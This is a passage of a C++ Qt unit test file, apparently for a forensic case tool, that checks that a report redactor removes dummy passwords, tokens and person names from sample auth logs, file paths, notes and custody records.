        for (const char* name : {"admin", "oracle1", "Administrator", "Test2024", "odd7!Name"}) {
            static std::string line;
            line = std::string("sshd[1]: Failed password for invalid user ") + name + " from 203.0.113.7 port 1 ssh2";
            QTest::newRow(name) << QByteArray::fromStdString(line) << QByteArray();
        }
        row("sshd[1]: Accepted password for Ka!stanie7 from 203.0.113.7 port 1 ssh2", "");
    }
    void no_name_of_anybody() {
        QFETCH(QByteArray, line);
        QFETCH(QByteArray, hidden);
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/etc/passwd", spec.bytes = "root:x:0:0:root:/root:/bin/bash\nodd7!Name:x:1000:1000::/home/odd:/bin/bash\n";
        fixture.add_parsed("passwd", spec);
        spec = {};
        spec.path = "/var/log/auth.log", spec.bytes = "2026-03-01T08:00:00+00:00 web1 " + line.toStdString() + "\n";
        fixture.add_parsed("syslog", spec);
        const auto view = case_file::View::open(fixture.path());
        const auto texts = report::Texts::load("en");
        std::string told;
        const auto done = report::for_each_line(*view, *texts, {}, [&](const report::TimelineLine& one) {
            if (one.source != "fs") report::append_jsonl(told, one);
            return base::Next::go_on;
        });
        QVERIFY(done.has_value());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        const auto raw = QByteArray::fromStdString(redactor->text(line.toStdString()));
        if (hidden.isEmpty()) {
            QCOMPARE(raw, line);
            QVERIFY2(told.find("[redacted]") == std::string::npos, told.c_str());
            return;
        }
        QVERIFY2(told.find(hidden.toStdString()) == std::string::npos, told.c_str());
        QVERIFY2(told.find("[redacted]") != std::string::npos, told.c_str());
        QVERIFY2(!raw.contains(hidden), raw.constData());
    }

    // A secret that was drawn by lot is no name: it goes from names of files, links and paths, too. Programs keep theirs.
    void drawn_by_lot() {
        test::CaseFixture fixture;
        for (const char* path : {"/srv/hWYp3G2vq2Wp53hs", "/srv/kunden-bX7q2WzRk9LmT4vY.zip", "/srv/qR8t5YhW2zXn7KpL.php", "/srv/MyDatabaseConfigFile9"}) {
            test::FileSpec spec;
            spec.path = path, spec.bytes = "x";
            fixture.add(spec);
        }
        test::FileSpec spec;
        spec.path = "/srv/shop/.env", spec.content_type = "text/plain";
        spec.bytes = "A_PASSWORD=hWYp3G2vq2Wp53hs\nB_PASSWORD=bX7q2WzRk9LmT4vY\nC_PASSWORD=qR8t5YhW2zXn7KpL\nD_PASSWORD=MyDatabaseConfigFile9\nE_PASSWORD=nmjPFvDBHsfTzWYS\n";
        fixture.add_parsed("credentials", spec);
        const auto view = case_file::View::open(fixture.path());
        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
        QVERIFY(redactor.has_value());
        QCOMPARE(redactor->name("/srv/hWYp3G2vq2Wp53hs"), std::string("/srv/[redacted]"));
        QCOMPARE(redactor->name("/srv/kunden-bX7q2WzRk9LmT4vY.zip"), std::string("/srv/kunden-[redacted].zip"));
        QCOMPARE(redactor->name("/srv/qR8t5YhW2zXn7KpL.php"), std::string("/srv/qR8t5YhW2zXn7KpL.php"));
        QCOMPARE(redactor->name("/srv/MyDatabaseConfigFile9"), std::string("/srv/MyDatabaseConfigFile9"));
        QCOMPARE(redactor->text("GET /hWYp3G2vq2Wp53hs.zip HTTP/1.1"), std::string("GET /[redacted].zip HTTP/1.1"));
        QCOMPARE(redactor->text("./x nmjPFvDBHsfTzWYS"), std::string("./x [redacted]"));  // letters alone, in no order
        QCOMPARE(redactor->text("ubuntu:XGR5LpasJ5tzdZ"), std::string("ubuntu:[redacted]"));  // whoever that is
        QCOMPARE(redactor->text("sha256:XGR5LpasJ5tzdZ"), std::string("sha256:XGR5LpasJ5tzdZ"));
        QCOMPARE(redactor->text("image:bookworm7"), std::string("image:bookworm7"));
    }

    // What people wrote into the case: notes, its data, the custody log.
    void what_was_written() {
        test::CaseFixture fixture;
        fill_redacted(fixture);
        const std::string secret = std::string("tok glpat-abcdefghij0123456789, ") + k_glass + " and Kennwort: Abc123xyz99";
        fixture.sql("INSERT INTO note(id, written, at, kind, who, permitted_by, text) VALUES(1, '2026-03-02T00:00:00Z', '2026-03-02T00:00:00Z', 'note', 'martina', 'x', '" + secret + "')");
        fixture.sql("INSERT INTO custody VALUES(1000, '2026-03-02T00:00:00Z', 'e@h', 'note', '{\"z\":\"" + secret + "\",\"who\":\"martina\",\"a\":1}', x'00', x'00')");
        fixture.sql("INSERT INTO custody VALUES(1002, '2026-03-02T00:00:00Z', 'e@h', 'case.set', '{\"case.conclusion\":\"{\\\"text\\\":\\\"Kennwort Kiste7x\\\"}\"}', x'00', x'00')");
        fixture.sql("INSERT INTO custody VALUES(1001, '2026-03-02T00:00:00Z', 'e@h', 'note', '{ \"z\":\"nothing\", \"a\":1}', x'00', x'00')");
        fixture.sql("INSERT OR REPLACE INTO meta VALUES('case.examiner', 'Martina Berg, password=Kiste7x')");
        fixture.sql("UPDATE run SET command = '[\"deadbox\",\"--description=password: Kiste7x told\"]'");
        const auto view = case_file::View::open(fixture.path());
        const auto texts = report::Texts::load("en");
        for (const auto redact : {report::Redact::secrets, report::Redact::persons}) {
            report::BuildOptions options;
            options.redact = redact;
            const auto model = report::build_report(*view, *texts, options);
            QVERIFY2(model.has_value(), model ? "" : model.error().what.c_str());
            QVERIFY(model->notes[0].text.starts_with("tok [redacted]"));
            QCOMPARE(model->case_data.examiner, std::string("Martina Berg, password=[redacted]"));  // who examines is no person of the machine
            QCOMPARE(model->run.command.back(), std::string("--description=password: [redacted] told"));
            QCOMPARE(model->notes[0].who, std::string(redact == report::Redact::persons ? "person-1" : "martina"));
            const auto& custody = model->custody;
            const auto told = std::find_if(custody.begin(), custody.end(), [](const auto& entry) { return entry.details.find("tok ") != std::string::npos; });
            QVERIFY(told != custody.end());
            for (const auto* gone : {"glpat-", k_glass, "Abc123xyz99"}) QVERIFY2(told->details.find(gone) == std::string::npos && model->notes[0].text.find(gone) == std::string::npos, gone);
            QCOMPARE(told->details.find("martina") == std::string::npos, redact == report::Redact::persons);
            QVERIFY(told->details.starts_with("{\"z\":"));  // in the order that it has
            QVERIFY2(custody.back().details.find("Kiste7x") == std::string::npos && custody.back().details.find("Kennwort [redacted]") != std::string::npos, custody.back().details.c_str());
            QCOMPARE(custody[custody.size() - 2].details, std::string("{ \"z\":\"nothing\", \"a\":1}"));
        }
    }
};
DEADBOX_TEST(RedactionTest)
#include "redaction_test.moc"
